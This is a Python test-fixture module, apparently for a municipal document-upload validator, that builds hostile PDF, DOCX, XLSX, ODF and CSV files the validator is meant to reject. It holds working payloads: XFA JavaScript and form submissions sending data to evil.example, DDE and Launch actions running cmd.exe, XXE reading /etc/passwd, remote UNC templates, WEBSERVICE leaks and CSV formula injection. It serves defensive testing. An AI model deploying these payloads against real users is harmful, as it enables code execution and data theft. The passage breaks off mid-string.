"""Hostile and malformed uploads, built in code (no binary fixtures in the repository).

hostile_corpus() gives (file name, content, expected UploadRejected code) for check_upload called
with max_size=MAX_SIZE. The builders of valid files are shared with the tests of accepted files.
"""

from __future__ import annotations

import io
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence

import openpyxl
import pypdf
from PIL import Image

from civis.portal.demo.filegen import make_odt, make_pdf

MAX_SIZE = 2 * 1024 * 1024
ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
ODT_MIME = "application/vnd.oasis.opendocument.text"
_OFFICE_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"'
)
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships'
    '+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)


# Valid building blocks ---------------------------------------------------------------------------


def pdf(title: str = "Délibération n° 2026-03", text: str = "L'école Jules-Ferry.") -> bytes:
    return make_pdf(title, [text])


def odt(title: str = "Compte rendu", text: str = "La délibération est adoptée.") -> bytes:
    return make_odt(title, [text])


def zip_of(entries: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore", UserWarning)  # duplicate names are wanted in the corpus
        for index, (name, data) in enumerate(entries):
            method = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return out.getvalue()


def ods(
    cells: list[list[str]] | None = None, *, extra: list[tuple[str, bytes | str]] = ()
) -> bytes:
    rows = "".join(
        "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{c}</text:p></table:table-cell>'
            for c in row
        )
        + "</table:table-row>"
        for row in cells or [["Commune", "Budget"], ["Mérignac", "1 200 000"]]
    )
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_OFFICE_NS}>'
        f'<office:body><office:spreadsheet><table:table table:name="Feuille1">{rows}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    return zip_of([("mimetype", ODS_MIME), ("content.xml", content), *extra], stored_first=True)


def docx(
    text: str = "Arrêté du maire : fermeture de l'école.",
    *,
    main: str = DOCX_MAIN,
    extra: list[tuple[str, bytes | str]] = (),
    body: str | None = None,
    types: str = "",
) -> bytes:
    """A minimal DOCX; ``body`` replaces the paragraphs of ``text``, ``types`` adds content
    types (``<Default/>`` or ``<Override/>`` elements)."""
    paragraphs = (
        body
        if body is not None
        else "".join(
            f'<w:p><w:r><w:t xml:space="preserve">{line}</w:t></w:r></w:p>'
            for line in text.split("\n")
        )
    )
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
        f"<w:body>{paragraphs}</w:body></w:document>"
    )
    content_types = _CONTENT_TYPES.format(main=main).replace("</Types>", types + "</Types>")
    return zip_of(
        [
            ("[Content_Types].xml", content_types),
            ("_rels/.rels", _RELS),
            ("word/document.xml", document),
            *extra,
        ]
    )


def xlsx(rows: list[list[object]] | None = None) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows or [["Subvention", "Montant"], ["Club de rugby", 4500]]:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def image(fmt: str = "PNG", size: tuple[int, int] = (32, 24)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (0, 90, 160)).save(out, fmt)
    return out.getvalue()


def pdf_with_object_stream(
    action: bytes = b"<< /S /GoTo /D [4 0 R /Fit] >>", padding: int = 0
) -> bytes:
    """A PDF 1.5 whose catalog and open action sit in a compressed object stream."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"
    header = b"1 0 3 %d " % (len(catalog) + 1)
    packed = zlib.compress(header + catalog + b" " + action + b" " * padding)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in [
        (2, b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"),
        (4, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        (
            5,
            b"<< /Type /ObjStm /N 2 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s"
            b"\nendstream" % (len(header), len(packed), packed),
        ),
    ]:
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    offsets[6] = out.tell()
    rows = [
        (0, 0, 65535),
        (2, 5, 0),
        (1, offsets[2], 0),
        (2, 5, 1),
        (1, offsets[4], 0),
        (1, offsets[5], 0),
        (1, offsets[6], 0),
    ]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out.write(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s"
        b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, offsets[6])
    )
    return out.getvalue()


def protected_pdf(user_password: str) -> bytes:
    """RC4 needs no optional dependency; an empty user password only restricts printing etc."""
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password=user_password, owner_password="proprietaire", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# Hostile variants --------------------------------------------------------------------------------


def _pdf_catalog_with(extra: bytes) -> bytes:
    # Offsets in the xref table go stale, as in many real-world files; viewers cope.
    return pdf().replace(
        b"<< /Type /Catalog /Pages 2 0 R", b"<< /Type /Catalog /Pages 2 0 R " + extra, 1
    )


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def _png_declaring(width: int, height: int) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def _patch_zip(data: bytes, *, flags: int = 0, file_size: int | None = None) -> bytes:
    """Rewrite every entry's headers: what zipfile cannot write (encryption, forged sizes)."""
    buf = bytearray(data)
    end = buf.rfind(b"PK\x05\x06")
    (count,) = struct.unpack_from("<H", buf, end + 10)
    (pos,) = struct.unpack_from("<I", buf, end + 16)
    for _ in range(count):
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", buf, pos + 28)
        (local,) = struct.unpack_from("<I", buf, pos + 42)
        buf[pos + 8] |= flags
        buf[local + 6] |= flags
        if file_size is not None:
            struct.pack_into("<I", buf, pos + 24, file_size)
            struct.pack_into("<I", buf, local + 22, file_size)
        pos += 46 + name_len + extra_len + comment_len
    return bytes(buf)


def zip_bomb() -> bytes:
    # 11 MB of spaces deflate to ~11 KB: ratio ~1000 for an entry above 10 MB.
    return docx(extra=[("word/media/padding.xml", b" " * (11 * 1024 * 1024))])


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        data = b"Rapport annuel"
        info = tarfile.TarInfo("rapport.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


# Active content that viewers run or fetch by themselves (issue 18) ---------------------------


def pdf_stream(data: bytes, *, compress: bool = True) -> bytes:
    """The body of a stream object, FlateDecode-compressed unless told otherwise."""
    entries = b""
    if compress:
        data, entries = zlib.compress(data), b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def build_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: tuple[bytes, ...] = (),
    text: str = "Formulaire de demande",
) -> bytes:
    """A one-page PDF 1.7 with an exact cross-reference table.

    Objects: 1 the catalog (plus ``catalog``), 2 the page tree, 3 the page (plus ``page``), 4 the
    font, 5 the content stream; ``objects`` are numbered from 6.
    """
    content = b"BT /F1 12 Tf 57 780 Td (%s) Tj ET" % text.encode("cp1252")
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R"
        b" >> >> /Contents 5 0 R " + page + b" >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(content),
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    )
    return out.getvalue()


def link_pdf(action: bytes, annotation: bytes = b"") -> bytes:
    """A page with one link annotation whose click runs ``action``."""
    link = (
        b"<< /Type /Annot /Subtype /Link /Rect [57 770 300 790] /Border [0 0 0] /A "
        + action
        + b" "
        + annotation
        + b" >>"
    )
    return build_pdf(page=b"/Annots [6 0 R]", objects=(link,))


def form_pdf(field: bytes = b"") -> bytes:
    """A fillable form (AcroForm) with one text field, like a CERFA; ``field`` adds entries."""
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [57 700 300 720] /P 3 0 R"
        b" /F 4 /DA (/Helv 10 Tf 0 g) " + field + b" >>"
    )
    return build_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) >>",
        page=b"/Annots [6 0 R]",
        objects=(widget,),
    )


_XFA_SCRIPT = (
    b'<event activity="initialize"><script contentType="application/x-javascript">'
    b'app.launchURL("https://evil.example/?c=" + this.rawValue);</script></event>'
)


def xfa_pdf(event: bytes = _XFA_SCRIPT, *, packets: bool = False) -> bytes:
    """An XFA form: its XML template sits in a FlateDecode stream, whole or split in packets."""
    head = b'<?xml version="1.0" encoding="UTF-8"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
    template = (
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">'
        b'<subform name="demande"><field name="nom"><ui><textEdit/></ui>'
        + event
        + b"</field></subform></template>"
    )
    tail = b"</xdp:xdp>"
    objects: tuple[bytes, ...]
    if packets:
        form = b"<< /Fields [] /XFA [(preamble) 7 0 R (template) 8 0 R (postamble) 9 0 R] >>"
        objects = (form, pdf_stream(head), pdf_stream(template), pdf_stream(tail))
    else:
        objects = (b"<< /Fields [] /XFA 7 0 R >>", pdf_stream(head + template + tail))
    return build_pdf(catalog=b"/AcroForm 6 0 R /NeedsRendering true", objects=objects)


def _xml_attr(value: str) -> str:
    return value.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def docx_simple_field(instr: str) -> bytes:
    return docx(
        body=f'<w:p><w:fldSimple w:instr="{_xml_attr(instr)}"><w:r><w:t>1</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )


def docx_complex_field(*pieces: str, nested: str = "") -> bytes:
    """A field whose code is split over runs; ``nested`` is a field placed before the code."""

    def field(code_runs: str, result: str) -> str:
        return (
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + code_runs
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        )

    def runs(*texts: str) -> str:
        return "".join(
            f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in texts
        )

    inner = field(runs(nested), "x") if nested else ""
    return docx(body=f"<w:p>{field(inner + runs(*pieces), '1')}</w:p>")


def _rels(*relations: tuple[str, str, bool]) -> str:
    """A relationships part: (type, target, external) each."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{R_NS}/{kind}" Target="{_xml_attr(target)}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relations, start=10)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        f'"http://schemas.openxmlformats.org/package/2006/relationships">{items}'
        "</Relationships>"
    )


def docx_template(target: str) -> bytes:
    """A DOCX attached to the template ``target`` (Word fetches it when the file opens)."""
    settings = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w='
        f'"{W_NS}" xmlns:r="{R_NS}"><w:attachedTemplate r:id="rId10"/></w:settings>'
    )
    return docx(
        extra=[
            ("word/settings.xml", settings),
            ("word/_rels/settings.xml.rels", _rels(("attachedTemplate", target, True))),
        ]
    )


def docx_related(
    kind: str, target: str, *, part: str = "word/_rels/document.xml.rels", body: str | None = None
) -> bytes:
    return docx(body=body, extra=[(part, _rels((kind, target, True)))])


_OLE_LINK_BODY = (
    '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
    'Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" r:id="rId10" '
    'UpdateMode="Always"/></w:object></w:r></w:p>'
)
OLE_OBJECT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def zip_edit(
    data: bytes,
    *,
    add: Sequence[tuple[str, bytes | str]] = (),
    change: dict[str, Callable[[bytes], bytes]] | None = None,
) -> bytes:
    """Rewrite a ZIP package: ``change`` maps an entry to a function of its bytes."""
    entries: list[tuple[str, bytes | str]] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for info in archive.infolist():
            content = archive.read(info)
            if change and info.filename in change:
                content = change[info.filename](content)
            entries.append((info.filename, content))
    return zip_of([*entries, *add], stored_first=entries[0][0] == "mimetype")


def xlsx_with(
    formula: str | None = None,
    *,
    name: str | None = None,
    add: Sequence[tuple[str, bytes | str]] = (),
) -> bytes:
    """A workbook whose B3 holds ``formula`` and whose defined name ``x`` is ``name``."""
    from openpyxl.workbook.defined_name import DefinedName

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Subvention", "Montant"])
    sheet.append(["Club de rugby", 4500])
    if formula is not None:
        sheet["B3"] = formula
    if name is not None:
        workbook.defined_names["x"] = DefinedName("x", attr_text=name)
    out = io.BytesIO()
    workbook.save(out)
    return zip_edit(out.getvalue(), add=list(add)) if add else out.getvalue()


_DDE_LINK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns='
    '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService='
    '"cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    "</ddeLink></externalLink>"
)
_EXTERNAL_BOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns='
    '"http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
    f'"{R_NS}"><externalBook r:id="rId10"/></externalLink>'
)
_ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" office:version="1.3"'
)


def odf_with(
    kind: str, body: str, *, before_body: str = "", extra: list[tuple[str, bytes | str]] = ()
) -> bytes:
    """An ODT or ODS whose office:text / office:spreadsheet holds ``body``."""
    element = {"odt": "text", "ods": "spreadsheet"}[kind]
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {_ODF_NS}>'
        f"{before_body}<office:body><office:{element}>{body}</office:{element}>"
        "</office:body></office:document-content>"
    )
    mime = ODT_MIME if kind == "odt" else ODS_MIME
    return zip_of([("mimetype", mime), ("content.xml", content), *extra], stored_first=True)


def ods_formula(formula: str) -> bytes:
    return odf_with(
        "ods",
        '<table:table table:name="Feuille1"><table:table-row>'
        f'<table:table-cell table:formula="{_xml_attr(formula)}" '
        'office:value-type="float" office:value="0"/></table:table-row>'
        "</table:table>",
    )


def csv_bytes(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


_DDE = 'DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'
_DDE_CELL = "=cmd|' /C calc'!A0"
_EMBEDDED_XLSM = zip_of(
    [
        ("[Content_Types].xml", "<Types/>"),
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504),
    ]
)


def active_content_corpus() -> list[tuple[str, bytes, str]]:
    """Active content once accepted (issue 18, item 6): each must be refused as active_content."""
    unc = "\\\\evil.example\\partage\\modele.dotm"
    return [
        (name, content, "active_content")
        for name, content in [
            # PDF: JavaScript in an XFA form, whose template is a compressed stream.
            ("xfa-script.pdf", xfa_pdf()),
            ("xfa-paquets.pdf", xfa_pdf(packets=True)),
            (
                "xfa-envoi.pdf",
                xfa_pdf(
                    b'<event activity="exit"><submit format="xml" '
                    b'target="https://evil.example/collecte"/></event>'
                ),
            ),
            # PDF: actions that send, import, or open something other than a web page.
            (
                "envoi-formulaire.pdf",
                form_pdf(
                    b"/A << /S /SubmitForm /F << /FS /URL /F "
                    b"(https://evil.example/collecte) >> /Flags 4 >>"
                ),
            ),
            (
                "import-donnees.pdf",
                build_pdf(catalog=b"/OpenAction << /S /ImportData /F (donnees.fdf) >>"),
            ),
            (
                "distant.pdf",
                build_pdf(
                    catalog=b"/OpenAction << /S /GoToR /F << /FS /URL /F "
                    b"(file://evil.example/partage/a.pdf) >> "
                    b"/D [0 /Fit] >>"
                ),
            ),
            (
                "lien-distant.pdf",
                link_pdf(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\p\\\\a.pdf) /D [0 /Fit] >>"),
            ),
            (
                "lance-page.pdf",
                build_pdf(
                    page=b"/AA << /O << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>"
                ),
            ),
            (
                "envoi-cache.pdf",
                pdf_with_object_stream(b"<< /S /SubmitForm /F (https://evil.example/) >>"),
            ),
            # PDF: a web address opened by itself (on open, page open, mouse over, chained).
            (
                "ouvre-adresse.pdf",
                build_pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/pixel) >>"),
            ),
            (
                "ouvre-reference.pdf",
                build_pdf(
                    catalog=b"/OpenAction 6 0 R",
                    objects=(b"<< /S /URI /URI (https://evil.example/) >>",),
                ),
            ),
            (
                "page-adresse.pdf",
                build_pdf(page=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
            ),
            (
                "survol.pdf",
                link_pdf(
                    b"<< /S /URI /URI (https://www.service-public.fr/) >>",
                    b"/AA << /E << /S /URI /URI (https://evil.example/) >> >>",
                ),
            ),
            (
                "enchaine.pdf",
                build_pdf(
                    catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>",
                    objects=(b"<< /S /URI /URI (https://evil.example/) >>",),
                ),
            ),
            (
                "adresse-echappee.pdf",
                build_pdf(catalog=b"/OpenAction << /S /U#52I /U#52I (https://evil.example/) >>"),
            ),
            (
                "adresse-cachee.pdf",
                pdf_with_object_stream(b"<< /S /URI /URI (https://evil.example/) >>"),
            ),
            # PDF: a link to a network share or local file (Windows sends its credentials).
            (
                "lien-unc.pdf",
                link_pdf(
                    b"<< /S /URI /URI <%s> >>"
                    % b"\\\\evil.example\\partage\\note.pdf".hex().encode()
                ),
            ),
            (
                "lien-fichier.pdf",
                link_pdf(b"<< /S /URI /URI (file://evil.example/partage/a.exe) >>"),
            ),
            ("lien-disque.pdf", link_pdf(b"<< /S /URI /URI (C:/Windows/System32/calc.exe) >>")),
            # CERFA-like form with JavaScript (formatting scripts): refused, flatten or remove them.
            (
                "cerfa-script.pdf",
                form_pdf(
                    b"/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke"
                    b'\\(2, 0, 0, 0, "", true\\)) >> >>'
                ),
            ),
            (
                "cerfa-script-flux.pdf",
                build_pdf(
                    catalog=b"/AcroForm << /Fields [] >> /Names << /JavaScript 6 0 R >>",
                    objects=(
                        b"<< /Names [(init) << /S /JavaScript /JS 7 0 R >>] >>",
                        pdf_stream(b"app.alert('Bienvenue');"),
                    ),
                ),
            ),
            # DOCX: DDE fields, plain, split over runs, written with character references, built
            # from a nested QUOTE field, or in a header.
            ("dde.docx", docx_simple_field(_DDE)),
            (
                "dde-simple.docx",
                docx_simple_field('DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/c calc" "!A0"'),
            ),
            (
                "dde-morceaux.docx",
                docx_complex_field(
                    "DD", 'EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'
                ),
            ),
            (
                "dde-entite.docx",
                docx(
                    body='<w:p><w:fldSimple w:instr=" &#68;&#x44;EAUTO cmd.exe '
                    '&quot;/k calc&quot;"/></w:p>'
                ),
            ),
            (
                "dde-quote.docx",
                docx_complex_field(
                    ' c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
                    nested="QUOTE 68 68 69 65 85 84 79",
                ),
            ),
            (
                "dde-entete.docx",
                docx(
                    extra=[
                        (
                            "word/header1.xml",
                            f'<w:hdr xmlns:w="{W_NS}"><w:p>'
                            f'<w:fldSimple w:instr="{_xml_attr(_DDE)}"/></w:p>'
                            "</w:hdr>",
                        )
                    ]
                ),
            ),
            (
                "dde-utf16.docx",
                zip_edit(
                    docx_simple_field(_DDE),
                    change={
                        "word/document.xml": lambda x: (
                            x.decode()
                            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                            .encode("utf-16")
                        )
                    },
                ),
            ),
            # XML declarations (external entities, entity expansion) in a part.
            (
                "xxe.docx",
                zip_edit(
                    docx(),
                    change={
                        "word/document.xml": lambda x: x.replace(
                            b"?><w:document",
                            b'?><!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">'
                            b"]><w:document",
                        )
                    },
                ),
            ),
            (
                "entites.xlsx",
                zip_edit(
                    xlsx_with(),
                    change={
                        "xl/worksheets/sheet1.xml": lambda x: (
                            b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
                            b'<!ENTITY b "&a;&a;&a;&a;">]>' + x
                        )
                    },
                ),
            ),
            (
                "xxe-utf16.odt",
                zip_edit(
                    odt(),
                    change={
                        "content.xml": lambda x: (
                            '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM '
                            '"http://evil.example/">]>' + x.decode().split("?>", 1)[1]
                        ).encode("utf-16")
                    },
                ),
            ),
            # DOCX: a template, frame or linked object fetched from the network when the file opens.
            ("modele-web.docx", docx_template("http://evil.example/modele.dotm")),
            ("modele-unc.docx", docx_template(unc)),
            ("modele-fichier.docx", docx_template("file://evil.example/partage/modele.dotm")),
            ("modele-unc-fichier.docx", docx_template("file:////evil.example/partage/modele.dotm")),
            (
                "cadre.docx",
                docx_related(
                    "frame",
                    "https://evil.example/cadre.html",
                    part="word/_rels/webSettings.xml.rels",
                ),
            ),
            ("image-unc.docx", docx_related("image", unc.replace("modele.dotm", "logo.png"))),
            (
                "ole-lie.docx",
                docx_related("oleObject", "file:///C:/Budget/budget.xlsx", body=_OLE_LINK_BODY),
            ),
            (
                "ole-lie-unc.docx",
                docx_related("oleObject", unc.replace(".dotm", ".xlsx"), body=_OLE_LINK_BODY),
            ),
            # DOCX: embedded OLE objects (Packager carrying a program, Equation Editor...).
            (
                "ole-incorpore.docx",
                docx(
                    types=f'<Default Extension="bin" ContentType="{OLE_OBJECT_TYPE}"/>',
                    extra=[("word/embeddings/oleObject1.bin", _OLE2)],
                ),
            ),
            (
                "ole-deguise.docx",
                docx(
                    types=f'<Override PartName="/word/media/image9.png" '
                    f'ContentType="{OLE_OBJECT_TYPE}"/>',
                    extra=[("word/media/image9.png", _OLE2)],
                ),
            ),
            ("programme-incorpore.docx", docx(extra=[("word/embeddings/facture.exe", _PE)])),
            (
                "classeur-macro-incorpore.docx",
                docx(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", _EMBEDDED_XLSM)]),
            ),
            # XLSX: DDE in a cell formula (also with the pipe as a character reference), in a
            # defined name, in an external link part; WEBSERVICE; remote workbook; macro sheet.
            ("dde-cellule.xlsx", xlsx_with(_DDE_CELL)),
            ("dde-addition.xlsx", xlsx_with("=-2+3+cmd|' /C calc'!A0")),
            ("dde-guillemets.xlsx", xlsx_with("='cmd'|' /C calc'!A0")),
            (
                "dde-entite.xlsx",
                zip_edit(
                    xlsx_with(_DDE_CELL),
                    change={"xl/worksheets/sheet1.xml": lambda x: x.replace(b"|", b"&#124;")},
                ),
            ),
            ("dde-nom.xlsx", xlsx_with(name="cmd|' /C calc'!A0")),
            ("dde-lien.xlsx", xlsx_with(add=[("xl/externalLinks/externalLink1.xml", _DDE_LINK)])),
            ("fuite-web.xlsx", xlsx_with('=_xlfn.WEBSERVICE("https://evil.example/?v="&B2)')),
            (
                "classeur-distant.xlsx",
                xlsx_with(
                    add=[
                        ("xl/externalLinks/externalLink1.xml", _EXTERNAL_BOOK),
                        (
                            "xl/externalLinks/_rels/externalLink1.xml.rels",
                            _rels(
                                (
                                    "externalLinkPath",
                                    unc.replace("modele.dotm", "budget.xlsx"),
                                    True,
                                )
                            ),
                        ),
                    ]
                ),
            ),
            ("macro-xlm.xlsx", xlsx_with(add=[("xl/macrosheets/sheet2.xml", "<xm:macrosheet/>")])),
            ("ole-classeur.xlsx", xlsx_with(add=[("xl/embeddings/oleObject1.bin", _OLE2)])),
            # ODS / ODT: DDE formulas and links, OLE objects, remote sections, event scripts.
            ("dde.ods", ods_formula('of:=DDE("cmd";"/c calc";"A1")')),
            ("fuite-web.ods", ods_formula('of:=WEBSERVICE("https://evil.example/?v="&[.A1])')),
            (
                "dde-liens.ods",
                odf_with(
                    "ods",
                    "<table:dde-links><table:dde-link><office:dde-source "
                    'office:dde-application="cmd" office:dde-topic="/c '
                    'calc" office:dde-item="A1"/></table:dde-link>'
                    "</table:dde-links>",
                ),
            ),
            (
                "feuille-distante.ods",
                odf_with(
                    "ods",
                    '<table:table table:name="F"><table:table-'
                    'source xlink:href="file://evil.example/p/'
                    'x.ods"/></table:table>',
                ),
            ),
            (
                "dde.odt",
                odf_with(
                    "odt",
                    "<text:dde-connection-decls><text:dde-connection-decl "
                    'office:name="x" office:dde-application="cmd" '
                    'office:dde-topic="/c calc" office:dde-item="A1"/>'
                    "</text:dde-connection-decls><text:p><text:dde-connection "
                    'text:connection-name="x">1</text:dde-connection></text:p>',
                ),
            ),
            (
                "ole.odt",
                odf_with(
                    "odt",
                    '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"'
                    "/></draw:frame></text:p>",
                    extra=[("Object 1", _OLE2)],
                ),
            ),
            (
                "section-distante.odt",
                odf_with(
                    "odt",
                    '<text:section text:name="S"><text:section-'
                    'source xlink:href="http://evil.example/s.odt"'
                    "/></text:section>",
                ),
            ),
            (
                "evenement.odt",
                odf_with(
                    "odt",
                    "<text:p>x</text:p>",
                    before_body=(
                        "<office:scripts><office:event-listeners>"
                        "<script:event-listener script:language="
                        '"ooo:script" script:event-name="dom:load" '
                        'xlink:href="vnd.sun.star.script:Standard.'
                        'Module1.Main?language=Basic&amp;location=application"/></office:event-listeners>'
                        "</office:scripts>"
                    ),
                ),
            ),
            # CSV: cells a spreadsheet would run as formulas.
            ("formule.csv", csv_bytes("commune;montant\nMérignac;=1+1\n")),
            ("dde.csv", csv_bytes("commune;montant\nMérignac;=cmd|' /C calc'!A0\n")),
            ("arobase.csv", csv_bytes("commune;montant\nMérignac;@SUM(1+1)*cmd|' /C calc'!A0\n")),
            ("plus.csv", csv_bytes("commune;montant\nMérignac;+cmd|' /C calc'!A0\n")),
            ("moins.csv", csv_bytes("commune;montant\nMérignac;-2+3+cmd|' /C calc'!A0\n")),
            ("tabulation.csv", csv_bytes('commune;montant\nMérignac;"\t=1+1"\n')),
            (
                "retour.csv",
                csv_bytes(
                    'commune;montant\nMérignac;"\r=HYPERLINK(""https://evil.'
